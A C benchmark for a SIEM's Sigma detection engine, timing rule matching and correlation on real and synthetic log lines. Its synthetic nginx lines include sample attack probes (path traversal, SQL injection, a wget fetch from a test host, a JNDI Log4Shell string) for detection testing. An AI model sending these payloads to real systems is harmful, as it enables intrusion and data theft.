/*
 * Detection benchmark: the correlate process's inner loop on its own,
 * without the daemon, sockets or the store.  Log lines (real ones from
 * the loghub corpus and a synthetic sshd, sudo, nginx, UFW and
 * MoneyControl JSON mix) are normalized by the parser's own functions,
 * packed in the wire format the store sends to correlate, written to a
 * file and read back; then the packed events are walked N times, each
 * one through sigma_match() into the correlation and baseline engines,
 * exactly as correlate_batch() does.  Prints figures, not verdicts:
 * events/s with every rule and with none, how many events each rule is
 * evaluated against, and the peak RSS with 100,000 correlation groups.
 *
 *	detect [events-file]
 *
 * Environment: BENCH_DETECT_N (events per run, 1000000),
 * BENCH_DETECT_ROUNDS (rounds of the three sets, 3), BENCH_DETECT_RULES
 * (a file for every rule's share of events and time), SIEMD_CORPUS
 * (../shared/corpus), BENCH_RULES (the shipped rules, etc/rules).
 */

#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "siemd.h"
#include "event.h"
#include "event_wire.h"
#include "normalize.h"
#include "rules_load.h"
#include "sigma.h"
#include "sigma_base.h"
#include "sigma_corr.h"

#define BD_N		1000000		/* events per timed run */
#define BD_SYNTH	16000		/* synthetic lines */
#define BD_GROUPS	100000		/* groups of the RSS run */
#define BD_BATCH	1000		/* events between engine flushes */
#define BD_LINE		2048
#define BD_T0		1798761600000000LL	/* 2027-01-01, µs */
#define BD_TOP		5
#define BD_ROUNDS	3		/* rounds, the best reported */
#define BD_ROUNDS_MAX	9

static const char	*corpus_dirs[] = {
	"sigma/rules", "sigma/rules-emerging-threats",
	"sigma/rules-threat-hunting"
};

struct ruleset {
	const char		*label;
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct corr_engine	*ce;
	struct base_engine	*be;
	int			 files;
	int			 loaded;	/* detection rules loaded */
	int			 corrs;		/* correlations */
	int			 bases;		/* siemd: sections */
};

struct run {
	struct ruleset		*rs;
	struct sigma_event	*se;
	const struct event_view	*v;
	uint64_t		 events;
	uint64_t		 hits;
	uint64_t		 alerts;
	double			 secs;		/* the best round */
	double			 all[BD_ROUNDS_MAX];	/* every round */
	int			 rounds;
};

static struct run	*cur;
static uint32_t		 seed = 0x9e3779b9;

static uint32_t	 rnd(uint32_t);
static double	 now_s(void);
static long	 peak_rss_kb(void);
static int	 add_rule_file(const char *, const char *, size_t, void *);
static void	 ruleset_load(struct ruleset *, const char *, const char *,
		    const struct corr_params *);
static void	 ruleset_free(struct ruleset *);
static void	 on_alert(const struct corr_alert *, void *);
static void	 on_hit(const struct sigma_rule *, void *);
static void	 pack_line(struct wire_buf *, const char *,
		    enum tail_format);
static int	 pack_file(struct wire_buf *, const char *, enum tail_format);
static void	 synth_line(char *, size_t, int, enum tail_format *);
static void	 ip4(char *, size_t);
static uint8_t	*events_roundtrip(const char *, struct wire_buf *,
		    size_t *);
static void	 drive(struct run *, const uint8_t *, size_t, uint64_t);
static void	 report_run(const struct run *, const struct run *);
static void	 report_share(const struct ruleset *, uint64_t, double);
static void	 rss_groups(const char *, const char *, const char *);

static uint32_t
rnd(uint32_t n)
{
	seed ^= seed << 13;
	seed ^= seed >> 17;
	seed ^= seed << 5;
	return (n ? seed % n : seed);
}

static double
now_s(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (ts.tv_sec + ts.tv_nsec / 1e9);
}

static long
peak_rss_kb(void)
{
	struct rusage	 ru;
	FILE		*f;
	char		 line[128];
	long		 kb = -1;

	/*
	 * VmHWM: the peak of this address space (ru_maxrss would also
	 * keep the peak of the process before it was executed).
	 */
	if ((f = fopen("/proc/self/status", "r")) != NULL) {
		while (fgets(line, sizeof(line), f) != NULL)
			if (sscanf(line, "VmHWM: %ld kB", &kb) == 1)
				break;
		fclose(f);
	}
	if (kb >= 0)
		return (kb);
	getrusage(RUSAGE_SELF, &ru);
	return (ru.ru_maxrss);
}

static int
add_rule_file(const char *path, const char *buf, size_t len, void *arg)
{
	struct ruleset	*rs = arg;

	sigma_set_add_file(rs->set, path, buf, len);
	rs->files++;
	return (0);
}

/* Rules from the corpus (when given) and the shipped rules (when given). */
static void
ruleset_load(struct ruleset *rs, const char *corpus, const char *shipped,
    const struct corr_params *cp)
{
	struct sigma_rule	*r;
	char			 dir[1024], err[SIGMA_REASON_LEN];
	size_t			 i;

	if ((rs->map = sigma_map_load(NULL, err, sizeof(err))) == NULL) {
		fprintf(stderr, "detect: field map: %s\n", err);
		exit(1);
	}
	rs->set = sigma_set_new(rs->map);
	for (i = 0; corpus != NULL && i < sizeof(corpus_dirs) /
	    sizeof(corpus_dirs[0]); i++) {
		snprintf(dir, sizeof(dir), "%s/%s", corpus, corpus_dirs[i]);
		rules_read(dir, add_rule_file, rs, NULL);
	}
	if (shipped != NULL)
		rules_read(shipped, add_rule_file, rs, NULL);
	sigma_set_compile(rs->set);
	for (i = 0; (r = sigma_set_rule(rs->set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED)
			continue;
		if (r->kind == SIGMA_DETECTION)
			rs->loaded++;
		else if (r->kind == SIGMA_CORRELATION)
			rs->corrs++;
		if (r->ext != NULL)
			rs->bases++;
	}
	rs->ce = corr_new(rs->set, rs->map, cp, on_alert, NULL);
	rs->be = base_new(rs->set, NULL, on_alert, NULL);
}

static void
ruleset_free(struct ruleset *rs)
{
	if (rs->ce != NULL)
		corr_free(rs->ce);
	if (rs->be != NULL)
		base_free(rs->be);
	sigma_set_free(rs->set);
	sigma_map_free(rs->map);
}

static void
on_alert(const struct corr_alert *a, void *arg)
{
	if (cur != NULL)
		cur->alerts++;
}

/* What correlate_hit_one() does with a hit, short of sending alerts. */
static void
on_hit(const struct sigma_rule *r, void *arg)
{
	const struct event_view	*v = cur->v;

	cur->hits++;
	if (r->kind != SIGMA_DETECTION)
		return;
	if (cur->rs->ce != NULL)
		corr_hit(cur->rs->ce, r, cur->se, v->h.ts, v->h.id,
		    v->h.received_at);
	if (cur->rs->be != NULL && r->ext != NULL)
		base_hit(cur->rs->be, r, cur->se, v->h.ts, v->h.id,
		    v->h.received_at);
	if (r->standalone)
		cur->alerts++;
}

/* One record through the parser process's normalization, then packed. */
static void
pack_line(struct wire_buf *wb, const char *line, enum tail_format fmt)
{
	struct record_hint	 hint;
	struct siem_event	 ev;

	memset(&hint, 0, sizeof(hint));
	hint.format = fmt;
	hint.source_type = "file";
	hint.source_offset = -1;
	hint.received_at = BD_T0;
	hint.now = BD_T0;
	event_init(&ev);
	normalize_record(&ev, line, strlen(line), &hint);
	if (event_pack(wb, &ev, 0, 1) == -1) {
		fprintf(stderr, "detect: event_pack failed\n");
		exit(1);
	}
	event_clear(&ev);
}

static int
pack_file(struct wire_buf *wb, const char *path, enum tail_format fmt)
{
	FILE	*fp;
	char	 line[BD_LINE];
	int	 n = 0;

	if ((fp = fopen(path, "r")) == NULL)
		return (0);
	while (fgets(line, sizeof(line), fp) != NULL) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '\0')
			continue;
		pack_line(wb, line, fmt);
		n++;
	}
	fclose(fp);
	return (n);
}

static void
ip4(char *b, size_t sz)
{
	static const char	*nets[] = { "192.0.2", "198.51.100",
	    "203.0.113", "10.1.4" };

	snprintf(b, sz, "%s.%u", nets[rnd(4)], 1 + rnd(254));
}

/*
 * One synthetic record of kind k: sshd 25%, sudo 5%, nginx 35%, UFW
 * 15%, MoneyControl JSON 20%.  About 3% of the web requests are
 * attack probes the SigmaHQ web rules name.
 */
static void
synth_line(char *b, size_t sz, int k, enum tail_format *fmt)
{
	static const char	*users[] = { "root", "admin", "deploy",
	    "alice", "bob", "oracle", "test", "git", "ubuntu", "postgres" };
	static const char	*paths[] = { "/", "/index.html",
	    "/api/v1/items", "/static/app.js", "/login", "/img/logo.png",
	    "/search", "/api/v1/accounts/42", "/favicon.ico", "/robots.txt" };
	static const char	*probes[] = {
	    "/index.php?file=../../../../etc/passwd",
	    "/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users",
	    "/cgi-bin/test.cgi?cmd=;wget%20http://203.0.113.9/x.sh",
	    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../"
	    "wp-config.php",
	    "/.env", "/?x=${jndi:ldap://203.0.113.9:1389/a}" };
	static const char	*agents[] = {
	    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 "
	    "Firefox/120.0",
	    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15"
	    " (KHTML, like Gecko) Version/16.6 Safari/605.1.15",
	    "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1" };
	static const char	*cmds[] = { "/usr/bin/systemctl restart nginx",
	    "/usr/bin/apt-get update", "/bin/cat /var/log/auth.log",
	    "/usr/bin/id" };
	static const char	*jtypes[] = { "auth_oauth_google_login_failed",
	    "permission_denied", "audit_transactions_exported",
	    "unhandled_exception", "request_completed", "request_completed" };
	char			 ip[32], dst[32];
	const char		*u = users[rnd(10)];
	unsigned		 s = k % 3600;
	int			 r = rnd(100), j;

	ip4(ip, sizeof(ip));
	*fmt = FORMAT_SYSLOG;
	switch (r < 25 ? 0 : r < 30 ? 1 : r < 65 ? 2 : r < 80 ? 3 : 4) {
	case 0:
		j = rnd(4);
		snprintf(b, sz, "Jan  1 %02u:%02u:%02u web01 sshd[%u]: %s%s "
		    "from %s port %u ssh2", s / 3600, s / 60 % 60, s % 60,
		    1000 + rnd(30000), j == 0 ? "Accepted publickey for " :
		    j == 1 ? "Failed password for invalid user " :
		    "Failed password for ", u, ip, 1024 + rnd(60000));
		break;
	case 1:
		if (rnd(4) == 0)
			snprintf(b, sz, "Jan  1 %02u:%02u:%02u web01 sudo:"
			    "     %s : 3 incorrect password attempts ; "
			    "TTY=pts/1 ; PWD=/home/%s ; USER=root ; "
			    "COMMAND=%s", s / 3600, s / 60 % 60, s % 60, u, u,
			    cmds[rnd(4)]);
		else
			snprintf(b, sz, "Jan  1 %02u:%02u:%02u web01 sudo:"
			    "     %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; "
			    "COMMAND=%s", s / 3600, s / 60 % 60, s % 60, u, u,
			    cmds[rnd(4)]);
		break;
	case 2:
		*fmt = FORMAT_ACCESS;
		snprintf(b, sz, "%s - - [01/Jan/2027:%02u:%02u:%02u +0000] "
		    "\"%s %s HTTP/1.1\" %u %u \"-\" \"%s\"", ip, s / 3600,
		    s / 60 % 60, s % 60, rnd(5) ? "GET" : "POST",
		    rnd(100) < 3 ? probes[rnd(6)] : paths[rnd(10)],
		    (unsigned[]){ 200, 200, 200, 304, 404, 302, 500 }[rnd(7)],
		    100 + rnd(40000), agents[rnd(5)]);
		break;
	case 3:
		ip4(dst, sizeof(dst));
		snprintf(b, sz, "Jan  1 %02u:%02u:%02u web01 kernel: "
		    "[%u.%06u] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:"
		    "52:54:00:65:43:21:08:00 SRC=%s DST=%s LEN=60 TOS=0x00 "
		    "PREC=0x00 TTL=%u ID=%u DF PROTO=TCP SPT=%u DPT=%u "
		    "WINDOW=64240 RES=0x00 SYN URGP=0", s / 3600, s / 60 % 60,
		    s % 60, rnd(900000), rnd(1000000), ip, dst, 32 + rnd(96),
		    rnd(65536), 1024 + rnd(60000),
		    (unsigned[]){ 22, 23, 80, 443, 445, 3389, 3306 }[rnd(7)]);
		break;
	default:
		*fmt = FORMAT_JSONL;
		j = rnd(6);
		snprintf(b, sz, "{\"ts\":\"2027-01-01T%02u:%02u:%02u.%03uZ\","
		    "\"level\":\"%s\",\"app\":\"MoneyControl\",\"event_type\":"
		    "\"%s\",\"message\":\"%s\",\"request_id\":\"req-%08x\","
		    "\"user_id\":\"u_%u\",\"ip\":\"%s\",\"http\":{\"method\":"
		    "\"%s\",\"path\":\"%s\",\"status\":%u},\"latency_ms\":%u}",
		    s / 3600, s / 60 % 60, s % 60, rnd(1000),
		    j == 3 ? "ERROR" : j < 2 ? "WARNING" : "INFO", jtypes[j],
		    j == 0 ? "Google OAuth login failed: invalid_grant" :
		    j == 1 ? "permission denied for role viewer" :
		    j == 2 ? "transactions exported to CSV" :
		    j == 3 ? "unhandled exception in request handler" :
		    "request completed", rnd(0), rnd(5000), ip,
		    j == 2 ? "GET" : "POST", j == 0 ? "/api/auth/google" :
		    j == 2 ? "/api/v1/transactions/export" : "/api/v1/accounts",
		    j == 0 ? 401 : j == 1 ? 403 : j == 3 ? 500 : 200,
		    1 + rnd(900));
		break;
	}
}

/*
 * The packed events to path and back, as correlate gets them from the
 * store; without a path they stay in memory.
 */
static uint8_t *
events_roundtrip(const char *path, struct wire_buf *wb, size_t *len)
{
	FILE		*fp;
	struct stat	 st;
	uint8_t		*buf;

	if (path == NULL) {
		*len = wb->len;
		return (wb->buf);
	}
	if ((fp = fopen(path, "w")) == NULL ||
	    fwrite(wb->buf, 1, wb->len, fp) != wb->len || fclose(fp) != 0) {
		perror(path);
		exit(1);
	}
	if ((fp = fopen(path, "r")) == NULL || fstat(fileno(fp), &st) == -1 ||
	    (buf = malloc(st.st_size)) == NULL ||
	    fread(buf, 1, st.st_size, fp) != (size_t)st.st_size) {
		perror(path);
		exit(1);
	}
	fclose(fp);
	*len = st.st_size;
	return (buf);
}

/*
 * n events from the packed buffer, round and round.  Each pass moves
 * the event times on by one millisecond an event, so the windows of
 * the correlations and baselines see time pass as in a live feed.
 */
static void
drive(struct run *run, const uint8_t *buf, size_t len, uint64_t n)
{
	struct event_view	 v;
	struct sigma_event	 se;
	const uint8_t		*p = buf;
	size_t			 left = len;
	uint64_t		 i;
	double			 t0;

	cur = run;
	run->se = &se;
	run->v = &v;
	t0 = now_s();
	for (i = 0; i < n; i++) {
		if (event_view_next(&p, &left, &v) != 1) {
			p = buf;
			left = len;
			if (event_view_next(&p, &left, &v) != 1) {
				fprintf(stderr, "detect: bad events\n");
				exit(1);
			}
		}
		v.h.id = i + 1;
		v.h.ts = v.h.received_at = BD_T0 + (int64_t)i * 1000;
		sigma_event_from_view(&se, &v);
		sigma_match(run->rs->set, &se, on_hit, NULL);
		sigma_event_done(&se);
		if ((i + 1) % BD_BATCH == 0) {
			corr_flush(run->rs->ce);
			base_flush(run->rs->be);
		}
	}
	corr_flush(run->rs->ce);
	base_flush(run->rs->be);
	run->all[run->rounds] = now_s() - t0;
	if (run->rounds == 0 || run->all[run->rounds] < run->secs)
		run->secs = run->all[run->rounds];
	run->rounds++;
	run->events = n;
	cur = NULL;
}

static int
dcmp(const void *a, const void *b)
{
	double	 x = *(const double *)a, y = *(const double *)b;

	return (x < y ? -1 : x > y);
}

/* The median round's events/s. */
static double
median_rate(const struct run *run)
{
	double	 t[BD_ROUNDS_MAX];

	memcpy(t, run->all, run->rounds * sizeof(t[0]));
	qsort(t, run->rounds, sizeof(t[0]), dcmp);
	return (run->events / t[run->rounds / 2]);
}

static void
report_run(const struct run *run, const struct run *base)
{
	double	 rate = run->events / run->secs;

	printf("  %-20s %4d det %2d corr %2d base %8.0f events/s/core "
	    "%6.2f us/event %7.3f s  %llu hits %llu alerts\n",
	    run->rs->label, run->rs->loaded, run->rs->corrs, run->rs->bases,
	    rate, run->secs * 1e6 / run->events, run->secs,
	    (unsigned long long)run->hits, (unsigned long long)run->alerts);
	printf("  %-22s median of %d rounds %.0f events/s/core\n", "",
	    run->rounds, median_rate(run));
	if (base != NULL && base->secs > 0)
		printf("  %-22s detection costs %.2f us/event over the empty "
		    "engine\n", "", (run->secs / run->events -
		    base->secs / base->events) * 1e6);
}

/*
 * From the rules' own counters: an event reaches a rule when the
 * logsource routing sends it there; the literal prefilter then skips
 * it (prefiltered) or the detection is evaluated in full (evaluated).
 */
static void
report_share(const struct ruleset *rs, uint64_t events, double secs)
{
	struct sigma_rule	*r, *top[BD_TOP];
	const char		*e;
	FILE			*f;
	uint64_t		 reached = 0, evaluated = 0, nsec = 0, n;
	size_t			 i, j, k;
	int			 rules = 0, never = 0;

	memset(top, 0, sizeof(top));
	for (i = 0; (r = sigma_set_rule(rs->set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED || r->kind != SIGMA_DETECTION)
			continue;
		rules++;
		n = r->stats.evaluated + r->stats.prefiltered;
		reached += n;
		evaluated += r->stats.evaluated;
		nsec += r->stats.nsec;
		if (n == 0)
			never++;
		for (j = 0; j < BD_TOP; j++) {
			if (top[j] == NULL ||
			    r->stats.nsec > top[j]->stats.nsec) {
				for (k = BD_TOP - 1; k > j; k--)
					top[k] = top[k - 1];
				top[j] = r;
				break;
			}
		}
	}
	if (rules == 0 || events == 0)
		return;
	printf("share of events a rule sees (%s, %d detection rules, "
	    "%llu events):\n", rs->label, rules, (unsigned long long)events);
	printf("  routed by logsource:   %6.2f%% of events per rule on "
	    "average, %.1f rules per event\n", 100.0 * reached / events /
	    rules, (double)reached / events);
	printf("  evaluated in full:     %6.2f%% of events per rule on "
	    "average, %.1f rules per event (after the literal prefilter)\n",
	    100.0 * evaluated / events / rules, (double)evaluated / events);
	printf("  rules no event reached: %d of %d\n", never, rules);
	printf("  full evaluations took %.1f%% of the run (the rules' nsec "
	    "counters); the rest is\n  routing, the literal prefilter, "
	    "event views and the correlation engines\n",
	    100.0 * nsec / 1e9 / secs);
	/* every rule's share, for whoever wants more than the top */
	if ((e = getenv("BENCH_DETECT_RULES")) != NULL && *e != '\0' &&
	    (f = fopen(e, "w")) != NULL) {
		fprintf(f, "# routed%%\tevaluated%%\tms\ttitle\n");
		for (i = 0; (r = sigma_set_rule(rs->set, i)) != NULL; i++)
			if (r->state == SIGMA_LOADED &&
			    r->kind == SIGMA_DETECTION)
				fprintf(f, "%.2f\t%.2f\t%.1f\t%s\n",
				    100.0 * (r->stats.evaluated +
				    r->stats.prefiltered) / events,
				    100.0 * r->stats.evaluated / events,
				    r->stats.nsec / 1e6,
				    r->title ? r->title : "?");
		fclose(f);
		printf("  every rule's share: %s\n", e);
	}
	printf("  costliest rules (time in full evaluations):\n");
	for (j = 0; j < BD_TOP && top[j] != NULL; j++)
		printf("    %5.1f%% of the run  %6.2f%% routed %6.2f%% "
		    "evaluated  %.50s\n", 100.0 * top[j]->stats.nsec / 1e9 /
		    secs, 100.0 * (top[j]->stats.evaluated +
		    top[j]->stats.prefiltered) / events,
		    100.0 * top[j]->stats.evaluated / events,
		    top[j]->title ? top[j]->title : "?");
}

/*
 * In a child, so the timed runs do not count: every rule loaded, then
 * one failed sshd login from each of BD_GROUPS addresses inside the
 * brute-force rule's five minutes.  The bounds are raised to hold
 * them all (by default a rule keeps CORR_MAX_GROUPS_RULE groups).
 */
static void
rss_groups(const char *self, const char *corpus, const char *shipped)
{
	struct ruleset		 rs;
	struct corr_params	 cp;
	struct wire_buf		 wb;
	struct run		 run;
	const struct corr_stats	*cs;
	char			 line[BD_LINE];
	long			 rules_kb, before, after;
	pid_t			 pid;
	int			 k, status;

	/*
	 * In a process of its own, started afresh (a forked child would
	 * count the pages of its parent), so that the peak is that of the
	 * rules and the groups alone, as in the correlate process.
	 */
	if (self != NULL) {
		fflush(stdout);
		if ((pid = fork()) == -1) {
			perror("fork");
			exit(1);
		}
		if (pid == 0) {
			execl("/proc/self/exe", self, "--rss-groups",
			    corpus != NULL ? corpus : "", shipped, (char *)NULL);
			perror("execl");
			_exit(1);
		}
		waitpid(pid, &status, 0);
		return;
	}
	memset(&rs, 0, sizeof(rs));
	rs.label = "all rules";
	corr_params_default(&cp);
	cp.max_groups_rule = BD_GROUPS;
	cp.max_groups = 4 * BD_GROUPS;
	ruleset_load(&rs, corpus, shipped, &cp);
	rules_kb = peak_rss_kb();
	memset(&wb, 0, sizeof(wb));
	for (k = 0; k < BD_GROUPS; k++) {
		snprintf(line, sizeof(line), "Jan  1 00:00:%02d web01 "
		    "sshd[%d]: Failed password for root from 10.%d.%d.%d "
		    "port %d ssh2", k / 2000, 1000 + k % 30000, k >> 16,
		    (k >> 8) & 255, k & 255, 1024 + k % 60000);
		pack_line(&wb, line, FORMAT_SYSLOG);
	}
	before = peak_rss_kb();
	memset(&run, 0, sizeof(run));
	run.rs = &rs;
	drive(&run, wb.buf, wb.len, BD_GROUPS);
	after = peak_rss_kb();
	cs = corr_stats(rs.ce);
	printf("peak RSS with %d distinct src_ip through %s "
	    "(sshd_brute_force.yml; every rule loaded):\n", BD_GROUPS,
	    "sshd_login_failure");
	printf("  %ld KB peak (VmHWM); %ld KB with the rules loaded, "
	    "%ld KB before the groups\n  (the bench's packed events: %zu KB);"
	    " %llu groups in %d correlations (peak %llu, evicted %llu):\n"
	    "  %.0f bytes a group; %.0f events/s\n", after, rules_kb, before,
	    wb.len / 1024,
	    (unsigned long long)cs->groups, rs.corrs,
	    (unsigned long long)cs->groups_peak,
	    (unsigned long long)cs->evicted, cs->groups ?
	    (after - before) * 1024.0 / cs->groups : 0.0,
	    BD_GROUPS / run.secs);
	fflush(stdout);
}

int
main(int argc, char *argv[])
{
	struct ruleset	 all, shipped_only, none;
	struct run	 r_all, r_shipped, r_none;
	struct wire_buf	 wb;
	struct stat	 st;
	const char	*corpus, *shipped, *e;
	char		 path[1024], line[BD_LINE];
	enum tail_format fmt;
	uint8_t		*buf;
	size_t		 len;
	uint64_t	 n = BD_N;
	int		 k, real = 0, have_corpus, rounds = BD_ROUNDS;

	if (argc == 4 && strcmp(argv[1], "--rss-groups") == 0) {
		rss_groups(NULL, argv[2][0] != '\0' ? argv[2] : NULL,
		    argv[3]);
		return (0);
	}
	if ((e = getenv("BENCH_DETECT_N")) != NULL && strtoull(e, NULL, 10))
		n = strtoull(e, NULL, 10);
	if ((corpus = getenv("SIEMD_CORPUS")) == NULL)
		corpus = "../shared/corpus";
	if ((shipped = getenv("BENCH_RULES")) == NULL)
		shipped = "etc/rules";
	snprintf(path, sizeof(path), "%s/sigma/rules", corpus);
	have_corpus = stat(path, &st) == 0;

	printf("== detection engine (tests/bench/detect.c): single-threaded,"
	    " one core; no daemon, no sockets ==\n");
	if (!have_corpus)
		printf("CORPUS MISSING: %s/sigma not found; only the shipped "
		    "rules and synthetic events are used\n", corpus);

	memset(&wb, 0, sizeof(wb));
	if (have_corpus) {
		snprintf(path, sizeof(path), "%s/loghub/OpenSSH/"
		    "OpenSSH_2k.log", corpus);
		real += pack_file(&wb, path, FORMAT_SYSLOG);
		snprintf(path, sizeof(path), "%s/loghub/Linux/Linux_2k.log",
		    corpus);
		real += pack_file(&wb, path, FORMAT_SYSLOG);
	}
	for (k = 0; k < BD_SYNTH; k++) {
		synth_line(line, sizeof(line), k, &fmt);
		pack_line(&wb, line, fmt);
	}
	buf = events_roundtrip(argc > 1 ? argv[1] : NULL, &wb, &len);
	printf("events: %zu distinct (%d real loghub lines, %d synthetic: "
	    "sshd 25%%, sudo 5%%, nginx 35%%, UFW 15%%, MoneyControl JSON "
	    "20%%), %zu bytes packed%s%s; %llu per run\n", wb.count, real,
	    BD_SYNTH, len, argc > 1 ? ", read back from " : "",
	    argc > 1 ? argv[1] : "", (unsigned long long)n);

	if ((e = getenv("BENCH_DETECT_ROUNDS")) != NULL)
		rounds = (int)strtol(e, NULL, 10);
	if (rounds < 1 || rounds > BD_ROUNDS_MAX)
		rounds = BD_ROUNDS;
	memset(&r_all, 0, sizeof(r_all));
	memset(&r_shipped, 0, sizeof(r_shipped));
	memset(&r_none, 0, sizeof(r_none));
	/*
	 * Fresh rule sets each round (their engines keep state), the
	 * sets taking turns, so that a slow spell of a shared machine
	 * does not fall on one of them only; the best round is reported
	 * beside the median.
	 */
	for (k = 0; k < rounds; k++) {
		if (k > 0) {
			ruleset_free(&all);
			ruleset_free(&shipped_only);
			ruleset_free(&none);
		}
		memset(&all, 0, sizeof(all));
		all.label = have_corpus ? "SigmaHQ + shipped" :
		    "shipped (no corpus)";
		ruleset_load(&all, have_corpus ? corpus : NULL, shipped, NULL);
		memset(&shipped_only, 0, sizeof(shipped_only));
		shipped_only.label = "shipped only";
		ruleset_load(&shipped_only, NULL, shipped, NULL);
		memset(&none, 0, sizeof(none));
		none.label = "no rules";
		ruleset_load(&none, NULL, NULL, NULL);
		if (k == 0)
			printf("rules: %d files read, %d detection rules "
			    "loaded (%d correlations, %d baselines / "
			    "new-value)\n", all.files, all.loaded, all.corrs,
			    all.bases);
		r_all.rs = &all;
		r_shipped.rs = &shipped_only;
		r_none.rs = &none;
		r_all.hits = r_all.alerts = 0;
		r_shipped.hits = r_shipped.alerts = 0;
		r_none.hits = r_none.alerts = 0;
		drive(&r_none, buf, len, n);
		drive(&r_shipped, buf, len, n);
		drive(&r_all, buf, len, n);
	}
	printf("events/s per core (sigma_match + correlation + baseline "
	    "engines, %d events between flushes; best of %d rounds):\n",
	    BD_BATCH, rounds);
	report_run(&r_all, &r_none);
	report_run(&r_shipped, &r_none);
	report_run(&r_none, NULL);
	printf("  reference: Wazuh analysisd 8,000-30,000 events/s; rsigma "
	    "19,000-106,000 events/s per core on 3,132 rules;\n"
	    "  target: at least 200,000 events/s per core with all rules\n");
	report_share(&all, r_all.events, r_all.secs);

	ruleset_free(&all);
	ruleset_free(&shipped_only);
	ruleset_free(&none);
	if (buf != wb.buf)
		free(buf);
	wire_free(&wb);

	rss_groups(argv[0], have_corpus ? corpus : NULL, shipped);
	return (0);
}
